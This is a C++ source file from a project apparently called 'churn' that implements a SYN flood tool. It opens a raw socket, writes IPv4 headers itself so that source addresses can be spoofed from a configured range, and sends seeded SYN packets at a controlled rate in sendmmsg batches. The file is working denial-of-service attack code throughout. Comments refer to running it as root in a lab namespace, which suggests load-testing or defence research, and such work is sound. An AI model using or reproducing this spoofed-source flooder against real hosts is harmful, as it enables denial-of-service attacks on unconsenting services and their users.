#include "synflood/flood.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cmath>
#include <cstdio>

#include "link/prng.h"
#include "loop/clock.h"
#include "loop/sys.h"

namespace churn::synflood {

SynSpec syn_for(const Options& opt, uint64_t n) {
    // Three counter-based draws per SYN (link/prng.h says why counter-based): SYN n does not depend on how
    // many SYNs came before it, nor on their fate. Each field takes bits of its own, so none is a function
    // of another (an ISN that gave away the IP id would be a pattern a real flood does not have).
    uint64_t a = SplitMix64::at(opt.seed, 3 * n), b = SplitMix64::at(opt.seed, 3 * n + 1),
             c = SplitMix64::at(opt.seed, 3 * n + 2);
    SynSpec s;
    s.src = opt.spoof.addr + static_cast<uint32_t>(a % opt.spoof.size());
    s.dst = opt.target;
    // Above 1023, like any client's ephemeral port; the modulo bias (2^32 mod 64512 of 2^32) is ~1e-5.
    s.sport = static_cast<uint16_t>(1024 + (a >> 32) % 64512);
    s.dport = opt.port;
    s.isn = static_cast<uint32_t>(b);
    s.tsval = static_cast<uint32_t>(b >> 32);
    // Never 0: with IP_HDRINCL the kernel replaces an ID of 0 with one of its own (raw(7)), and the packet
    // would no longer be a function of the seed.
    s.ip_id = static_cast<uint16_t>(c | 1);
    s.options = opt.syn_options;
    return s;
}

int open_raw_socket() {
    // IPPROTO_RAW: a send-only raw socket with IP_HDRINCL implied (raw(7)), so we write the IPv4 header
    // ourselves, source address included; that is what lets the source be spoofed. It never receives
    // anything: no receive queue fills up with the SYN-ACKs of the flood, and they are not ours anyway.
    // Without CAP_NET_RAW this is EPERM: run it as root inside the lab namespace.
    int fd = ::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (fd < 0) throw_sys("socket", "AF_INET, SOCK_RAW, IPPROTO_RAW", errno);
    return fd;
}

uint64_t Schedule::due_ns(uint64_t k) const {
    return start_ns + static_cast<uint64_t>(std::llround(static_cast<double>(k) * 1e9 / rate));
}

uint64_t Schedule::take(uint64_t now_ns, uint64_t done) {
    if (now_ns < start_ns) return 0;
    uint64_t due = std::min<uint64_t>(count, static_cast<uint64_t>((now_ns - start_ns) * rate / 1e9) + 1);
    uint64_t behind = due > done ? due - done : 0;
    if (behind > max_burst) {
        // A stall: slide the schedule by the excess, so that only max_burst SYNs are late.
        uint64_t slide = static_cast<uint64_t>(std::llround(static_cast<double>(behind - max_burst) * 1e9 / rate));
        start_ns += slide;
        slip_s += slide / 1e9;
        behind = max_burst;
    }
    return behind;
}

Flood::Flood(Reactor& reactor, const Options& opt, int fd) : reactor_(reactor), opt_(opt), fd_(fd) {
    dst_.sin_family = AF_INET;
    dst_.sin_addr.s_addr = htonl(opt.target);
    // sin_port stays 0: for a raw socket the kernel ignores it when sending (raw(7)); the port is in our header.
    sched_.rate = opt.rate;
    sched_.count = opt.count;
    // 10 ms worth of SYNs, at least one batch: what a late wakeup may still catch up (see flood.h).
    sched_.max_burst = std::max<uint64_t>(kBatch, static_cast<uint64_t>(std::ceil(opt.rate * 0.01)));
    bufs_.resize(kBatch * kMaxSynLen);
    iov_.resize(kBatch);
    msgs_.resize(kBatch);
}

void Flood::start() {
    t0_ns_ = sched_.start_ns = mono_ns();
    end_ns_ = t0_ns_ + static_cast<uint64_t>(std::llround(opt_.duration_s * 1e9));
    tick();
}

void Flood::stop(const char* why) {
    if (stopped_) return;
    stopped_ = true;
    stats_.stopped_by = why;
    stats_.elapsed_s = (mono_ns() - t0_ns_) / 1e9;
    stats_.schedule_slip_s = sched_.slip_s;
    reactor_.stop();
}

void Flood::tick() {
    if (stopped_) return;
    uint64_t now = mono_ns();
    bool last = now >= end_ns_;
    // The last wakeup still sends what fell due before the end: the 1 ms tick can step over the final due
    // time (at 2000/s, SYN 9999 of 10 s is due 0.5 ms before the end), and --count would miss one SYN.
    send_due(sched_.take(last ? end_ns_ - 1 : now, stats_.attempted));
    if (stats_.attempted >= opt_.count) return stop("count");
    if (last) return stop("duration");
    uint64_t next = std::max(sched_.due_ns(stats_.attempted), now + kMinTickNs);
    // Round up to the timer's microseconds: waking a little late costs nothing, waking early is a wasted tick.
    reactor_.at((std::min(next, end_ns_) + 999) / 1000, [this] { tick(); });
}

void Flood::send_due(uint64_t n) {
    while (n > 0) {
        size_t batch = static_cast<size_t>(std::min<uint64_t>(n, kBatch));
        for (size_t i = 0; i < batch; ++i) {
            uint8_t* buf = bufs_.data() + i * kMaxSynLen;
            iov_[i] = {buf, build_syn(syn_for(opt_, stats_.attempted + i), buf, kMaxSynLen)};
            msgs_[i] = {};
            msgs_[i].msg_hdr.msg_name = &dst_;
            msgs_[i].msg_hdr.msg_namelen = sizeof dst_;
            msgs_[i].msg_hdr.msg_iov = &iov_[i];
            msgs_[i].msg_hdr.msg_iovlen = 1;
        }
        size_t i = 0;
        while (i < batch) {
            // sendmmsg: one syscall for up to 64 SYNs. MSG_DONTWAIT: a full socket buffer says EAGAIN at
            // once instead of blocking past --duration; the SYN is counted under that errno, not retried
            // (a flood that waits for room is a slower flood, and the rate it reports would be a lie).
            int rc = ::sendmmsg(fd_, &msgs_[i], static_cast<unsigned>(batch - i), MSG_DONTWAIT);
            int saved = errno;
            ++stats_.syscalls;
            if (rc > 0) {
                stats_.sent += static_cast<uint64_t>(rc);
                i += static_cast<size_t>(rc);
                continue;
            }
            // rc < 0: the first message of this call failed (a later failure just ends the count early, and
            // the next call reports it). ENOBUFS, EPERM (a netfilter OUTPUT drop), ENETUNREACH (no route):
            // count it, skip that SYN, go on.
            if (rc < 0 && saved == EINTR) continue;
            ++stats_.errors[rc < 0 ? saved : EIO];
            ++i;
        }
        stats_.attempted += batch;
        n -= batch;
    }
}

std::string Flood::progress() const {
    double t = (mono_ns() - t0_ns_) / 1e9;
    uint64_t errs = 0;
    for (auto& [e, k] : stats_.errors) errs += k;
    char b[160];
    std::snprintf(b, sizeof b, "%.1f s  %llu sent  %.0f/s  errors %llu", t, (unsigned long long)stats_.sent,
                  t > 0 ? stats_.sent / t : 0.0, (unsigned long long)errs);
    return b;
}

}  // namespace churn::synflood
